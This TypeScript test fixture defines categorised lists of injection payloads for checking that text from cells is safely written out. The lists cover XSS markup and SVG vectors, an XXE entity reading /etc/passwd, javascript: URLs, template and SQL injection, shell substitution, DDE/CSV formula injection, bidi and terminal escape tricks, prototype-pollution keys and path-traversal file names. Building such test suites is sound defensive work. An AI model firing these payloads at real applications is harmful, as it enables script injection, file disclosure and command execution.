/**
 * Texts that do harm where a cell is taken for anything but text. Every one that a page could run calls `hit`, so that a
 * page which runs one can be told from one that shows it. Kept in lists by what they aim at, for every test that writes
 * something from cells.
 */

/** What a payload calls when it runs: a page under test counts the calls. */
export const TRIPWIRE = '__hit';

const CALL = `${TRIPWIRE}(1)`;

/** Elements and event handlers of a page. */
export const MARKUP = [
  `<script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</noscript><img src=x onerror=${CALL}>`,
  `</text><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<SCRIPT SRC=x:// onerror=${CALL}></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}">`,
  `<img src='x' onerror='${CALL}'>`,
  `<img/src/onerror=${CALL}>`,
  `<img src=x onerror=&#95;&#95;hit(1)>`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `' onmouseover='${CALL}' x='`,
  `" autofocus onfocus="${CALL}" tabindex="1`,
  `\` onmouseover=${CALL} \``,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<form id=x></form><button form=x formaction=javascript:${CALL}>x`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${CALL})}">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="animation-name:x" onanimationstart=${CALL}>x</div>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<table background="javascript:${CALL}"><tr><td>x</td></tr></table>`,
  `<x contenteditable onblur=${CALL}>x</x>`,
  `<button popovertarget=x>x</button><x popover id=x onbeforetoggle=${CALL}>x</x>`,
] as const;

/** Vector graphics, formulas of mathematics and other XML. */
export const XML = [
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y="9">x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${CALL}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${CALL}</script></svg>#x"/></svg>`,
  `<math><maction actiontype="statusline#javascript:${CALL}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  ']]>',
  `]]><script>${CALL}</script><![CDATA[`,
  `<!--<script>${CALL}</script>-->`,
  `--><script>${CALL}</script><!--`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  '<?php echo 1 ?><% x %>',
  '&y; &lt;b&gt; &#60;b&#62; &#x3C;b&#x3E; &amp;lt; &nbsp; &unknown; &',
  '&#0; &#x0; &#xD800; &#xFFFE; &#1114112;',
  '<w:r><w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r>',
  '</a:t></a:r><a:hlinkClick r:id="rId9"/>',
] as const;

/** Addresses that run or reach out. */
export const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19oaXQoMSk+`,
  'https://example.invalid/?x=1',
  '//example.invalid/x',
  '\\\\example.invalid\\share\\x',
  'file:///etc/passwd',
  'blob:null/x',
] as const;

/** What templates, shells, databases and writers of text run or fill in. */
export const TEMPLATES = [
  '{{7*7}}',
  `{{constructor.constructor('${CALL}')()}}`,
  '${7*7}',
  `\${${CALL}}`,
  '#{7*7}',
  '<%= 7*7 %>',
  `{@html '<img src=x onerror=${CALL}>'}`,
  "$& $1 $` $'",
  '%s %n %d %00',
  '\\u003cscript\\u003e',
  '`id` $(id) ; id | id && id',
  "'; DROP TABLE plan;--",
  '"; process.exit(1); "',
  '{"milepost":"project","version":1}',
  '{count} milestones in {name}',
] as const;

/** Formulas and commands of spreadsheets and word processors. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://example.invalid/"&A1,"press")',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '\'"=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  "'=1+1",
  "''=1+1",
  '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
  '=WEBSERVICE("https://example.invalid/")',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  '{ INCLUDEPICTURE "https://example.invalid/x.png" }',
  '-',
  '-5 % of the budget',
] as const;

/** Letters that do not show, turn the text round, or are none at all. */
export const LETTERS = [
  'a\u0000b',
  '\u0000',
  'bell\u0007 back\u0008 escape\u001b end\u007f',
  'c1 \u0080\u0085\u009b\u009f end',
  'before \ufffe\uffff after',
  'lone \ud800 high',
  'lone \udc00 low',
  '\udc00\ud800',
  'user\u202Egnp.exe',
  '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069',
  '\u202Eטקסט\u202C text',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff',
  'soft\u00adhyphen\u034f\u061c\u180e',
  'line\u2028paragraph\u2029end',
  '\u{e0001}\u{e0041}tags\u{e007f}',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  `a${'\u0301'.repeat(60)}`,
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇳🇿 \u{1F3FF}\u{1F3FF}',
  'ﷺ ﷽ 𝕋𝕖𝕤𝕥 ｆｕｌｌ',
  '\u{10ffff}\u{f0000}\ue000',
  'ÀÉÎÕÜ whānau Ōtautahi \u0041\u030a',
] as const;

/** What a terminal obeys: colours, the title of the window, the clipboard, a line written over. */
export const TERMINAL = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]52;c;aGVsbG8=\u0007',
  '\u001b[2J\u001b[1;1H',
  '\u009b31mred',
  '\u001b[1A\u001b[2KAll is well',
  'over\rwritten',
  'back\u0008\u0008\u0008\u0008space',
] as const;

/** Names that objects of the language have already. */
export const OBJECT_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'undefined',
  'null',
  'NaN',
  'Infinity',
  'true',
  '-0',
  '1e309',
  '[object Object]',
] as const;

/** Names that a file can not or should not have. */
export const FILE_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\x',
  '/etc/passwd',
  'C:\\autoexec.bat',
  'CON',
  'con.csv',
  'NUL.txt',
  'LPT1',
  'COM¹',
  'AUX.',
  '.htaccess',
  '..',
  '.',
  '~',
  '-rf',
  'name. . .',
  'a:stream',
  'a<b>c|d?e*f"g',
  'report.csv\u0000.exe',
  'report.exe%00.csv',
  'x'.repeat(400),
  'ā'.repeat(400),
  'invoice\u202Evsc.exe',
  '   ',
  '\n',
  '%2e%2e%2f',
] as const;

/** All of them. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...XML,
  ...ADDRESSES,
  ...TEMPLATES,
  ...FORMULAS,
  ...LETTERS,
  ...TERMINAL,
  ...OBJECT_NAMES,
  ...FILE_NAMES,
];
